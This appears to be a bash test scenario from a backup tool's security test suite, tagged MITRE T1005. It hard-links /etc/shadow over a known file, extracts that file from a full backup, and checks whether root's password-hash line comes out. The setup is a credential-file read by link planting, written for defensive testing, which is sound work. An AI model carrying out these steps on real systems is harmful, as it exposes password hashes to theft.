# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1005
about="a hard link of /etc/shadow replaces a known file"
note="a map names paths: a link made outside the domain has a known path"
before() { mv $data/docs/plan $data/plan.kept; ln /etc/shadow $data/docs/plan; mv $data/plan.kept /srv/plan.kept; }
attack() {
	tell backup
	tar -xzOf /srv/backup/full.tar.gz docs/plan >"$state/answer"
}
effect() { grep -q '^root:' "$state/answer"; }
after() { rm -f $data/docs/plan; mv /srv/plan.kept $data/docs/plan; }
